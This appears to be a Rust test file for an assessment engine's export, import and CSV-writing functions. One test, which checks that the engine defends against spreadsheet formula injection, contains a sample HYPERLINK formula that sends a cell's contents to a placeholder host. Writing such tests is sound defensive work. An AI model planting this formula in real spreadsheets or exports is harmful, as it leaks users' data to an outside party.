//! Exports and imports: the answers travel; of the report, an import takes only the locale.

use serde_json::{json, Value};
use sextant_engine::{Model, Response};

const SMALL: &str = r#"{
  "format": "sextant/1", "id": "t", "version": "1", "default_locale": "en",
  "title": "T",
  "dimensions": [{"id": "d", "label": "D"}],
  "scales": [{"id": "s", "points": [{"value": 1, "label": "1"}, {"value": 5, "label": "5"}]}],
  "sections": [{"id": "s1", "title": "S", "questions": [
    {"id": "q", "type": "likert", "text": "Q", "scale": "s", "weights": {"d": 1}}
  ]}]
}"#;

const ANSWERS: &str = r#"{"q": 5}"#;

fn model() -> Model {
    Model::load(SMALL).expect("the test assessment loads").model
}

fn exported(model: &Model) -> Value {
    let response = Response::from_json(model, ANSWERS).unwrap();
    let report = model.report(&response, "en");
    serde_json::from_str(&model.export(&response, &report)).unwrap()
}

#[test]
fn an_export_imports_with_its_answers() {
    let model = model();
    let export = exported(&model);
    assert!(export["report"].is_object());
    let restored = model.import(&export.to_string()).unwrap();
    assert_eq!(
        restored.response,
        Response::from_json(&model, ANSWERS).unwrap()
    );
    assert_eq!(restored.locale, "en");
    assert!(restored.skipped.is_empty());
}

#[test]
fn of_the_report_only_the_locale_is_read() {
    let model = model();
    let mut export = exported(&model);
    export["report"] = json!({"locale": "nl", "dimensions": "anything"});
    let restored = model.import(&export.to_string()).unwrap();
    assert_eq!(
        restored.response,
        Response::from_json(&model, ANSWERS).unwrap()
    );
    assert_eq!(restored.locale, "nl");

    export["report"] = Value::Null;
    assert_eq!(model.import(&export.to_string()).unwrap().locale, "en");

    export["report"] = json!("anything");
    let e = model.import(&export.to_string()).unwrap_err().to_string();
    assert_eq!(
        e,
        "unreadable: report: invalid type: string \"anything\", expected an object"
    );
}

#[test]
fn a_broken_export_names_the_fault() {
    let model = model();
    let mut export = exported(&model);
    export["version"] = json!(1);
    let e = model.import(&export.to_string()).unwrap_err().to_string();
    assert_eq!(
        e,
        "unreadable: version: invalid type: integer `1`, expected a string"
    );
    let e = model.import("[]").unwrap_err().to_string();
    assert_eq!(
        e,
        "unreadable: the document must be a JSON object ({ … }), not an array ([ … ])"
    );
}

#[test]
fn an_answer_that_is_none_is_left_out_and_named_not_the_whole_file() {
    let model = model();
    let mut export = exported(&model);
    for none in [json!(null), json!(true), json!({"a": -1})] {
        export["answers"] = json!({"q": 5, "other": none});
        let restored = model.import(&export.to_string()).unwrap();
        assert_eq!(
            restored.response,
            Response::from_json(&model, ANSWERS).unwrap()
        );
        let skipped: Vec<_> = restored
            .skipped
            .iter()
            .map(|e| (e.question.as_str(), e.code))
            .collect();
        assert_eq!(skipped, [("other", "answer.unreadable")]);
    }
}

#[test]
fn an_export_that_answers_a_question_twice_is_refused() {
    let model = model();
    let export = exported(&model).to_string();
    let twice = export.replacen(r#""q":5"#, r#""q":5,"q":1"#, 1);
    assert_ne!(twice, export);
    let e = model.import(&twice).unwrap_err().to_string();
    assert_eq!(
        e,
        "unreadable: answers: `q` is given twice: each key may appear only once"
    );
    // Saved state is held to the same rule.
    let response = Response::from_json(&model, ANSWERS).unwrap();
    let saved = model.save_state(
        &response,
        sextant_engine::view::Step::Welcome,
        ("en", None),
        1,
    );
    let twice = saved.replacen(r#""q":5"#, r#""q":5,"q":1"#, 1);
    assert_ne!(twice, saved);
    assert!(model.restore_state(&twice).is_err());
}

#[test]
fn a_csv_field_that_a_spreadsheet_would_run_is_kept_as_text() {
    use sextant_engine::save::csv_field;
    assert_eq!(csv_field("Focus"), "Focus");
    assert_eq!(csv_field("a, b"), "\"a, b\"");
    assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
    assert_eq!(
        csv_field("=HYPERLINK(\"https://x.invalid/?\"&A3,\"go\")"),
        "\"'=HYPERLINK(\"\"https://x.invalid/?\"\"&A3,\"\"go\"\")\""
    );
    for formula in ["+1+1", "-2+3", "@SUM(1)", "\tx", "\rx"] {
        assert!(
            csv_field(formula).trim_start_matches('"').starts_with('\''),
            "{formula}"
        );
    }
}

#[test]
fn scores_csv_is_written_as_the_report_language_s_spreadsheets_read_it() {
    use sextant_engine::save::scores_csv;
    let model = model();
    let response = Response::from_json(&model, ANSWERS).unwrap();
    let mut report = model.report(&response, "en");
    report.dimensions[0].label = "Snelheid; tempo".into();
    assert_eq!(
        scores_csv(&report),
        "dimension,label,group,score,coverage,band\nd,Snelheid; tempo,,100.0,1.00,\n"
    );
    // Dutch Excel: `;` between columns, decimal commas, and UTF-8 said by a byte order mark.
    report.locale = "nl".into();
    assert_eq!(
        scores_csv(&report),
        "\u{feff}dimension;label;group;score;coverage;band\nd;\"Snelheid; tempo\";;100,0;1,00;\n"
    );
}
